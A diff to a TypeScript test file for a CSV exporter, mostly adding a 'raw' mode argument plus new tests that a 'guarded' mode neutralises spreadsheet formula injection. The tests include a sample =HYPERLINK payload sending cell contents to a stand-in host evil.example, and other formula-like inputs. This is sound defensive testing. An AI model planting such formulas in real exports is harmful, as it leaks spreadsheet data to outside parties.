@@ -15,7 +15,7 @@ function named(type: RecordType, name: string): View {
 
 /** The rows as objects, without empty cells. */
 function read(view: View, record: DataRecord): Record<string, string>[] {
-  const rows: string[][] = parse([csvHeader(view), ...csvRows(record, view)].join('\n'));
+  const rows: string[][] = parse([csvHeader(view), ...csvRows(record, view, 'raw')].join('\n'));
   const [header = [], ...cells] = rows;
   return cells.map((row) =>
     Object.fromEntries(row.map((cell, at) => [header[at] ?? '', cell]).filter(([, cell]) => cell !== '')),
@@ -75,7 +75,7 @@ describe('rows', () => {
   it('quote strings, double quotes inside, leave numbers bare and missing cells empty', () => {
     const view = named('businesses', 'businesses_basic');
     const record = { latitude: -97.7, longitude: '12.50', name: 'Joe "the" Bar\nGrill', postalCode: '00123', id: 'b' };
-    expect(csvRows(record, view)).toEqual(['"b",,,,,-97.7,"12.50","Joe ""the"" Bar\nGrill","00123",,,']);
+    expect(csvRows(record, view, 'raw')).toEqual(['"b",,,,,-97.7,"12.50","Joe ""the"" Bar\nGrill","00123",,,']);
   });
 
   it('nest several values in one cell: scalars joined by commas, objects as JSON', () => {
@@ -124,7 +124,7 @@ describe('rows', () => {
     expect(read(view, PRODUCT)).toEqual(
       ['http://a', 'http://b', 'http://c'].map((url) => ({ ...basics, sourceURLs: url })),
     );
-    expect(csvRows({ name: 'x', id: 'y' }, view)).toEqual(['"y",,,,"x",']);
+    expect(csvRows({ name: 'x', id: 'y' }, view, 'raw')).toEqual(['"y",,,,"x",']);
   });
 
   it('of a full view are as many as the longest array, ended arrays empty, single values repeated', () => {
@@ -148,7 +148,7 @@ describe('rows', () => {
       },
       { ...single, sourceURLs: 'http://c' },
     ]);
-    expect(csvRows({ name: 'x', id: 'y' }, named('products', 'products_all'))).toHaveLength(1);
+    expect(csvRows({ name: 'x', id: 'y' }, named('products', 'products_all'), 'raw')).toHaveLength(1);
   });
 });
 
@@ -156,7 +156,7 @@ describe.each([...VIEWS])('$name in CSV', (view) => {
   it('reads back as it was, in rows as wide as the header', () => {
     fc.assert(
       fc.property(recordOf(SCHEMAS[view.type]), (record) => {
-        const lines = [csvHeader(view), ...csvRows(record, view)];
+        const lines = [csvHeader(view), ...csvRows(record, view, 'raw')];
         const rows: string[][] = parse(lines.join('\n'), { relax_column_count: true });
         expect(rows).toHaveLength(lines.length);
         for (const row of rows) expect(row).toHaveLength(view.columns.length + 1);
@@ -175,7 +175,7 @@ function valuesIn(rows: readonly string[][], view: View, field: string): string[
 
 function expectedOf(record: DataRecord, view: View, field: string): string[] {
   const value = record[field];
-  const height = csvRows(record, view).length;
+  const height = csvRows(record, view, 'raw').length;
   if (value === undefined) return [];
   if (typeof value !== 'object') return Array.from({ length: height }, () => String(value));
   const isOpen = view.layout.kind === 'spread' || (view.layout.kind === 'flat' && view.layout.field === field);
@@ -191,3 +191,34 @@ function expectedOf(record: DataRecord, view: View, field: string): string[] {
     }),
   );
 }
+
+describe('a cell that a spreadsheet would run as a formula', () => {
+  const view = named('businesses', 'businesses_all');
+  const attack = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
+  const first = (cells: readonly string[]) => cells[0]!;
+
+  it.each([attack, '+1+cmd', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '＝1+1'])('%j begins with an apostrophe', (name) => {
+    const [header = [], row = []]: string[][] = parse(
+      [csvHeader(view), ...csvRows({ name, id: name }, view, 'guarded')].join('\n'),
+    );
+    expect([first(row), row[header.indexOf('name')]]).toEqual([`'${name}`, `'${name}`]);
+    const [, raw = []]: string[][] = parse([csvHeader(view), ...csvRows({ name, id: name }, view, 'raw')].join('\n'));
+    expect(first(raw)).toBe(name);
+  });
+
+  it('is guarded in every layout and in lists', () => {
+    const record: DataRecord = { categories: [attack, 'b'], reviews: [{ text: attack }], id: 'x' };
+    for (const name of ['businesses_all', 'businesses_all_nested', 'businesses_all_reviewsFlat']) {
+      const rows: string[][] = parse(csvRows(record, named('businesses', name), 'guarded').join('\n'));
+      const formulas = rows.flat().filter((text) => /^[=+\-@]/.test(text));
+      expect([name, formulas]).toEqual([name, []]);
+      expect(rows.flat().some((text) => text.startsWith("'="))).toBe(true);
+    }
+  });
+
+  it('is no number', () => {
+    for (const phone of ['+4930123456', '-73.98', '+1']) {
+      expect(csvRows({ name: phone, id: 'x' }, view, 'guarded').join()).not.toContain("'");
+    }
+  });
+});
